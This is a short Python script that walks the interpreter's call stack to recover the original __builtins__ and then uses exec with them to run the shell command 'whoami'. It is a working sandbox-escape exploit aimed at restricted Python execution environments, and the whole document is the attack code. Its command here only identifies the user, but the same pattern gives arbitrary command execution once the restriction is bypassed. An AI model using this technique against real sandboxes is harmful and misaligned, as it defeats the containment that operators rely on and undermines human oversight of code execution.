import sys


def escape():
    frame = sys._getframe()
    while frame.f_back:
        frame = frame.f_back
    real_builtins = frame.f_globals["__builtins__"]
    return real_builtins


b = escape()
exec("import os; os.system('whoami')", {"__builtins__": b})
